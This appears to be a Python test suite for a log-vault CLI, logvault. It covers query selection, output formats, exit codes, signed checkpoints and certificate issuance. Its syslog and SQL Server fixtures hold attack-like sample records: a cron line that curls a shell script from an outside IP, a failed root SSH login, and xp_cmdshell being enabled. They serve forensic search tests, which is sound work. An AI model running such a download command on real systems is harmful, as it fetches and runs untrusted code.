"""The command line as a contract: selection, the four outputs, scope, completeness, exit codes."""

import base64
import csv
import io
import os
import re
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from lab import Lab, run  # noqa: E402

FOUND, NO_MATCH, USAGE, CANNOT_CONNECT = 0, 1, 2, 6
COLUMNS = ["host", "source", "seq", "time", "read_time", "commit_time", "block", "message"]
TIME = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z"

SYSLOG = (
    b"2024-07-11T14:00:00Z geo01 sshd[1]: Failed password for root from 203.0.113.77 port 40100 ssh2\n"
    b"2024-07-11T14:00:01Z geo01 sshd[2]: Accepted publickey for ops from 192.0.2.5 port 40101 ssh2\n"
    b"2024-07-11T15:00:00Z geo01 cron[3]: (tomcat) CMD (curl http://198.51.100.23/u.sh)\n"
    b"2024-07-11T16:00:00Z geo01 app[4]: said \"exec(java.lang\" and C:\\temp\\x\r\n"
)
PLAIN = b"plain \x1b[31mred\x1b[0m\nbroken \xff\xfe byte\n"
ERRORLOG = b"\xff\xfe" + (
    "2024-07-11 10:00:00.12 Server      UTC adjustment: -4:00\r\n"
    "2024-07-11 12:20:11.59 spid61      Configuration option 'xp_cmdshell' changed from 0 to 1. Ä\r\n"
).encode("utf-16-le")


class CliTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.lab = Lab(cls)
        cls.lab.collector()
        geo01 = cls.lab.host("geo01")
        geo01.file("syslog", "syslog", SYSLOG)
        geo01.file("plain", "plain", PLAIN)
        geo01.drain()
        sql01 = cls.lab.host("sql01")
        sql01.file("mssql", "sqlserver", ERRORLOG)
        sql01.drain()

    def query(self, *arguments, expect=FOUND):
        return self.lab.cli("query", *arguments, expect=expect)

    def messages(self, *arguments):
        answer = self.lab.cli("query", *arguments, "-o", "json")
        self.assertIn(answer.code, (FOUND, NO_MATCH), str(answer))
        return [o["message"] for o in answer.objects]

    def seqs(self, *arguments):
        answer = self.lab.cli("query", "-S", "syslog", *arguments, "-o", "json")
        self.assertIn(answer.code, (FOUND, NO_MATCH), str(answer))
        return [o["seq"] for o in answer.objects]

    # ---- what is found

    def test_words_and_quotes(self):
        self.assertEqual([1], self.seqs("failed PASSWORD"))
        self.assertEqual([1, 2], self.seqs("ssh2"))
        self.assertEqual([4], self.seqs('"exec(JAVA.lang"'))
        self.assertEqual([4], self.seqs('"said \\"exec"'))
        self.assertEqual([4], self.seqs('"c:\\\\temp\\\\x"'))
        self.assertEqual([], self.seqs('"no such text"'))

    def test_and_or_not_and_parentheses(self):
        self.assertEqual([1], self.seqs("ssh2 and failed"))
        self.assertEqual([1], self.seqs("ssh2", "failed"))
        self.assertEqual([1, 3], self.seqs("failed or curl"))
        self.assertEqual([2], self.seqs("ssh2 not failed"))
        self.assertEqual([1, 3], self.seqs("(failed or curl) and geo01"))

    def test_a_bare_address_matches_whole_addresses_only(self):
        self.assertEqual([1], self.seqs("203.0.113.77"))
        self.assertEqual([], self.seqs("203.0.113.7"))

    def test_utf16_is_searched_as_text(self):
        found = self.messages("xp_cmdshell")
        self.assertEqual(1, len(found))
        self.assertTrue(found[0].endswith("changed from 0 to 1. Ä"), found)

    def test_host_and_source_select(self):
        self.assertEqual(4, self.lab.count("host=geo01 source=syslog"))
        self.assertEqual(4, self.lab.count("-H", "geo*", "-S", "sys*"))
        self.assertEqual(self.lab.count("-H", "*01"), self.lab.count())

    def test_the_window_begins_inclusive_and_ends_exclusive(self):
        self.assertEqual([1, 2], self.seqs("-s", "2024-07-11T14:00:00Z", "-u", "2024-07-11T15:00:00Z"))
        self.assertEqual([3, 4], self.seqs("--since", "2024-07-11 15:00", "--until", "2024-07-12"))
        self.assertEqual([3, 4], self.seqs("--since", "2024-07-12 00:00:00", "--until", "2024-07-13", "--tz", "Asia/Tokyo"))
        self.assertEqual([], self.seqs("--since", "2024-07-12", "--until", "2024-07-13"))
        self.assertEqual([1, 2, 3, 4], self.seqs("--by", "read", "-s", "1h"))
        self.assertEqual([1, 2, 3, 4], self.seqs("--by", "commit", "-s", "1h"))
        self.assertEqual([], self.seqs("--by", "commit", "-u", "1h"))

    def test_what_was_committed_in_the_window_but_speaks_of_another_time_is_marked(self):
        found = self.query("-S", "syslog", "-s", "1h", "-o", "json").objects
        self.assertEqual([True] * 4, [o.get("outside_window") for o in found])
        inside = self.query("-S", "syslog", "-s", "2024-07-11", "-u", "2024-07-12", "-o", "json").objects
        self.assertEqual([None] * 4, [o.get("outside_window") for o in inside])

    def test_errorlog_takes_its_zone_from_the_banner(self):
        found = self.query("xp_cmdshell", "-o", "json").objects[0]
        self.assertEqual("2024-07-11T16:20:11.590000000Z", found["time"])

    def test_the_forwarders_own_source_counts_only_when_named(self):
        self.assertNotIn("logvault", {o["source"] for o in self.query("-o", "json").objects})
        self.assertGreater(self.lab.count("-S", "logvault"), 0)
        self.assertGreater(self.lab.count("source=logvault"), 0)

    # ---- how it is told

    def test_json_has_the_eight_columns_and_exact_times(self):
        for found in self.query("-o", "json").objects:
            self.assertLessEqual(set(COLUMNS), set(found))
            for name in ("time", "read_time", "commit_time"):
                self.assertRegex(found[name], f"^{TIME}$")
            self.assertIsInstance(found["seq"], int)
            self.assertIsInstance(found["block"], int)
            if found["source"] == "plain":
                self.assertEqual(("read", found["read_time"]), (found.get("time_from"), found["time"]))
            else:
                self.assertNotIn("time_from", found)

    def test_json_keeps_bytes_that_are_no_text(self):
        found = self.query("broken", "-o", "json").objects[0]
        self.assertEqual("broken \ufffd\ufffd byte", found["message"])
        self.assertEqual(b"broken \xff\xfe byte\n", base64.b64decode(found["message_base64"]))
        self.assertFalse(self.messages("said")[0].endswith("\r"))

    def test_json_has_parsed_fields(self):
        fields = self.query("failed", "-o", "json").objects[0]["fields"]
        self.assertIn("sshd", str(fields))

    def test_csv_has_the_eight_columns(self):
        rows = list(csv.reader(io.StringIO(self.query("said", "-o", "csv").text)))
        self.assertEqual(COLUMNS, rows[0])
        self.assertEqual(("geo01", "syslog", "4"), tuple(rows[1][:3]))
        self.assertTrue(rows[1][7].endswith('said "exec(java.lang" and C:\\temp\\x'))

    def test_raw_is_the_exact_bytes_in_order_of_host_source_and_number(self):
        self.assertEqual(PLAIN + SYSLOG + ERRORLOG, self.query("-o", "raw").out)
        self.assertEqual(ERRORLOG, self.query("-H", "sql01", "-S", "mssql", "-o", "raw").out)

    def test_control_bytes_are_escaped_in_text(self):
        answer = self.query("plain", "-S", "plain", "-o", "text")
        self.assertIn("red", answer.text)
        self.assertNotIn(b"\x1b", answer.out)

    def test_pipes_are_oldest_first_and_limit_says_so(self):
        self.assertEqual([1, 2, 3, 4], self.seqs())
        answer = self.query("-S", "syslog", "-n", "2", "-o", "json")
        self.assertEqual(2, len(answer.objects))
        self.assertIn("limit", answer.err)

    def test_count_prints_a_number_and_no_match_prints_zero(self):
        self.assertEqual("2\n", self.query("ssh2", "--count").text)
        self.assertEqual("0\n", self.query("nothing-like-it", "--count", expect=NO_MATCH).text)
        self.assertEqual(b"", self.query("nothing-like-it", expect=NO_MATCH).out)

    def test_every_answer_ends_with_its_completeness(self):
        for arguments in (["ssh2"], ["ssh2", "--count"], ["ssh2", "-o", "raw"], ["nothing-like-it"]):
            last = self.lab.cli("query", *arguments).err.strip().split("\n")[-1]
            for word in ("block", "scope", "pruned", "scanned", "unreadable"):
                self.assertIn(word, last)

    def test_a_host_or_source_the_vault_never_saw_is_told(self):
        self.assertIn("geo99", self.query("host=geo99", expect=NO_MATCH).err)
        self.assertIn("nosource", self.query("-S", "nosource", expect=NO_MATCH).err)

    def test_no_index_and_strict_give_the_same_answer(self):
        self.assertEqual(self.seqs("ssh2"), self.seqs("ssh2", "--no-index"))
        self.assertEqual(self.seqs("ssh2"), self.seqs("ssh2", "--strict"))

    # ---- the other commands

    def test_hosts_lists_every_source(self):
        streams = {(o["host"], o["source"]): o for o in self.lab.cli("hosts", "-o", "json", expect=FOUND).objects}
        self.assertEqual(4, streams["geo01", "syslog"]["records"])
        self.assertIn(("sql01", "mssql"), streams)
        self.assertIn(("sql01", "logvault"), streams)
        self.assertIn("geo01", self.lab.cli("hosts", expect=FOUND).text)

    def test_show_gives_one_record_and_its_block(self):
        shown = self.lab.cli("show", "geo01/syslog/3", "-o", "json", expect=FOUND).objects[0]
        self.assertEqual(3, shown["seq"])
        self.assertIn("curl", shown["message"])
        self.assertIn("curl", self.lab.cli("show", "geo01/syslog/3", expect=FOUND).text)
        self.lab.cli("show", "geo01/syslog/99", expect=NO_MATCH)
        self.lab.cli("show", "geo01/syslog", expect=USAGE)

    def test_the_checkpoint_verifies_with_openssl_alone(self):
        note = self.lab.path("note")
        self.lab.cli("checkpoint", "--out", note, expect=FOUND)
        with open(note, encoding="utf-8") as file:
            body, signature_line = file.read().split("\n\n")
        origin, size, root = body.split("\n")
        self.assertRegex(origin, r"^lab-vault/[0-9a-f]{8}$")
        self.assertGreater(int(size), 0)
        self.assertEqual(32, len(base64.b64decode(root)))
        name, signature = re.fullmatch(r"\u2014 (\S+) (\S+)\n?", signature_line).groups()
        self.assertEqual(origin, name)
        with open(os.path.join(self.lab.analyst, "vault.pub"), encoding="utf-8") as file:
            verifier = file.readline().strip()
        key_name, key_hash, key = re.fullmatch(r"([^+]+)\+([0-9a-f]{8})\+(\S+)", verifier).groups()
        self.assertEqual(origin, key_name)
        key, signature = base64.b64decode(key), base64.b64decode(signature)
        self.assertEqual((1, bytes.fromhex(key_hash)), (key[0], signature[:4]))
        self.openssl_verifies(key[1:], (body + "\n").encode(), signature[4:])

    def openssl_verifies(self, key, message, signature):
        paths = {}
        for name, content in (("key.der", bytes.fromhex("302a300506032b6570032100") + key), ("message", message), ("signature", signature)):
            paths[name] = self.lab.path(name)
            with open(paths[name], "wb") as file:
                file.write(content)
        run(["openssl", "pkeyutl", "-verify", "-pubin", "-keyform", "DER", "-inkey", paths["key.der"], "-rawin",
             "-in", paths["message"], "-sigfile", paths["signature"]], expect=0)

    def test_status_ends_with_the_signed_note(self):
        answer = self.lab.cli("status", expect=FOUND)
        self.assertRegex(answer.text, r"lab-vault/[0-9a-f]{8}\n\d+\n\S{44}\n\n\u2014 lab-vault/[0-9a-f]{8} \S+\n$")
        self.lab.cli("status", "-o", "json", expect=FOUND).objects

    def test_verify_says_all_is_well(self):
        self.lab.cli("verify", expect=FOUND)
        self.assertEqual([], self.lab.cli("verify", "-o", "json", expect=FOUND).objects)

    # ---- what is refused

    def test_mistakes_are_usage_errors_with_a_hint(self):
        for arguments, hint in ((["nonfield=1"], "nonfield"), (["(a or"], ""), (['"unterminated'], ""), (["-s", "yesterday"], "yesterday"),
                                (["-o", "xml"], "xml"), (["--nonsense"], "nonsense"), (["-n", "many"], ""), (["a and"], "")):
            with self.subTest(arguments=arguments):
                answer = self.query(*arguments, expect=USAGE)
                self.assertIn(hint, answer.err)
                self.assertEqual(b"", answer.out)

    def test_what_cannot_be_meant_is_refused_by_its_name(self):
        for arguments, hint in ((["query", "-n", "-1"], "--limit"), (["query", "-S", ""], "--source"), (["query", "-H", ""], "--host"),
                                (["query", "10.0.0.0/99"], "column 1"), (["show", "a/b/c/1"], "HOST/SOURCE/SEQ")):
            with self.subTest(arguments=arguments):
                self.assertIn(hint, self.lab.cli(*arguments, expect=USAGE).err)
        for wrong in ("127.0.0.1:99999", "127.0.0.1", "127.0.0.1:0"):
            with self.subTest(vault=wrong):
                self.assertIn("--vault", self.lab.cli("status", vault=wrong, expect=USAGE).err)
                self.assertIn("LOGVAULT_VAULT", self.lab.logvault("status", env={"LOGVAULT_VAULT": wrong}, expect=USAGE).err)

    def test_a_mistake_names_the_flag_and_what_to_do(self):
        for arguments, hints in ((["query", "--hots", "x"], ["--hots", "--host", "query --help"]), (["query", "-n", "many"], ["--limit", "'many'", "number"]),
                                 (["query", "--limit"], ["--limit", "missing"]), (["hosts", "-o", "csv"], ["--output", "'csv'", "text, json"]),
                                 (["show"], ["RECORD", "show --help"]), (["qurey"], ["'qurey'", "'query'"]),
                                 (["show", "a/b/1", "c"], ["'c'", "too many"]), (["pki", "init"], ["DIR", "pki init --help"])):
            with self.subTest(arguments=arguments):
                err = self.lab.logvault(*arguments, expect=USAGE).err
                self.assertEqual(1, err.count("\n"), err)
                for hint in hints:
                    self.assertIn(hint, err)

    def test_bytes_that_are_no_text_are_searched_over_the_network_too(self):
        for arguments in ([b"\xff\xfe byte"], [b"byte", "-H", b"geo\xff"], ["--origin", b"*\xff*"]):
            with self.subTest(arguments=arguments):
                remote = self.lab.cli("query", *arguments, "-o", "raw")
                self.assertIn(remote.code, (FOUND, NO_MATCH), str(remote))
                self.assertEqual(self.lab.offline("query", *arguments, "-o", "raw").out, remote.out)
        self.assertEqual(b"broken \xff\xfe byte\n", self.lab.cli("query", b"\xff\xfe byte", "-o", "raw", expect=FOUND).out)

    def test_an_anchor_that_is_no_note_is_a_mistake_and_a_wrong_one_tampering(self):
        note = self.lab.path("some.note")
        for content in (b"", b"not a note\n", os.urandom(100)):
            with open(note, "wb") as file:
                file.write(content)
            self.assertIn("some.note", self.lab.cli("verify", "--anchor", note, expect=USAGE).err)
            self.assertIn("some.note", self.lab.offline("verify", "--anchor", note, expect=USAGE).err)
        self.lab.cli("checkpoint", "--out", self.lab.path("good.note"), expect=0)
        with open(self.lab.path("good.note"), "rb") as file:
            good = file.read()
        with open(note, "wb") as file:
            file.write(good.replace(b"\n", b"0\n", 2))
        self.lab.cli("verify", "--anchor", note, expect=4)

    def test_offline_without_an_anchor_says_what_would_not_show(self):
        elsewhere = self.lab.path("elsewhere")
        os.symlink(self.lab.vault_dir, elsewhere)  # the same folder, and no anchor beside it
        self.assertIn("older copy", self.lab.offline("verify", vault_dir=elsewhere, expect=0).err)
        self.assertNotIn("older copy", self.lab.offline("verify", expect=0).err)

    def test_an_unknown_field_gets_a_suggestion(self):
        self.assertIn("host", self.query("hots=geo01", expect=USAGE).err)

    def test_no_command_and_no_vault_are_usage_errors(self):
        self.lab.logvault(expect=USAGE)
        self.lab.logvault("nonsense", expect=USAGE)
        self.assertIn("--vault", self.lab.logvault("--credentials", self.lab.analyst, "status", expect=USAGE).err)

    def test_nobody_there_is_cannot_connect(self):
        self.assertIn("127.0.0.1:1", self.lab.cli("status", vault="127.0.0.1:1", expect=CANNOT_CONNECT).err)

    def test_environment_and_configuration_name_the_vault(self):
        self.lab.logvault("status", expect=FOUND, env={"LOGVAULT_VAULT": self.lab.query, "LOGVAULT_CREDENTIALS": self.lab.analyst})
        os.makedirs(self.lab.path("config", "logvault"), exist_ok=True)
        path = self.lab.path("config", "logvault", "config.yaml")
        self.lab.write_config(path, {"vault": self.lab.query, "credentials": self.lab.analyst})
        self.lab.logvault("status", expect=FOUND)
        os.remove(path)

    def test_help_names_commands_and_exit_codes(self):
        answer = self.lab.logvault("--help", expect=FOUND)
        for word in ("query", "verify", "hosts", "show", "pki", "status", "checkpoint", "exit", "--credentials"):
            self.assertIn(word, answer.text.lower())
        self.assertIn("--since", self.lab.logvault("query", "--help", expect=FOUND).text)


class PkiTest(unittest.TestCase):
    def setUp(self):
        self.lab = Lab(self)

    def test_init_and_issue_make_the_named_files(self):
        for name in ("vault.key", "vault.pub", "ca.pem", "crl.pem"):
            self.assertTrue(os.path.isfile(self.lab.path("pki", name)), name)
        for name in ("ca.pem", "cert.pem", "key.pem", "crl.pem", "vault.key", "vault.pub"):
            self.assertTrue(os.path.isfile(os.path.join(self.lab.collector_credentials, name)), name)
        self.assertEqual(["ca.pem", "cert.pem", "key.pem", "vault.pub"], sorted(os.listdir(self.lab.analyst)))
        for folder in (self.lab.analyst, self.lab.collector_credentials):
            self.assertEqual(0o600, os.stat(os.path.join(folder, "key.pem")).st_mode & 0o777)

    def test_init_does_not_overwrite(self):
        self.lab.logvault("pki", "init", self.lab.path("pki"), "--name", "lab-vault", expect=USAGE)

    def test_identity_and_time_to_live(self):
        for role, name, ttl, days in (("forwarder", "geo01", None, 365), ("investigator", "ann", None, 3), ("admin", "root", None, 3), ("investigator", "bob", "15m", 0)):
            folder = self.lab.issue(role, name, ttl=ttl)
            cert = os.path.join(folder, "cert.pem")
            text = run(["openssl", "x509", "-in", cert, "-noout", "-ext", "subjectAltName"], expect=0).text
            self.assertIn(f"URI:spiffe://lab-vault/{role}/{name}", text)
            still = lambda seconds: run(["openssl", "x509", "-in", cert, "-noout", "-checkend", str(int(seconds))]).code == 0
            end = days * 86400 or 900
            self.assertTrue(still(end - 120))
            self.assertFalse(still(end + 120))
            run(["openssl", "verify", "-CAfile", os.path.join(folder, "ca.pem"), cert], expect=0)

    def test_names_and_roles_are_checked(self):
        self.lab.issue("forwarder", "UPPER", expect=USAGE)
        self.lab.issue("forwarder", "a/b", expect=USAGE)
        self.lab.issue("king", "geo01", expect=USAGE)
        self.lab.issue("forwarder", "geo01", ttl="soon", expect=USAGE)


if __name__ == "__main__":
    unittest.main(verbosity=2)
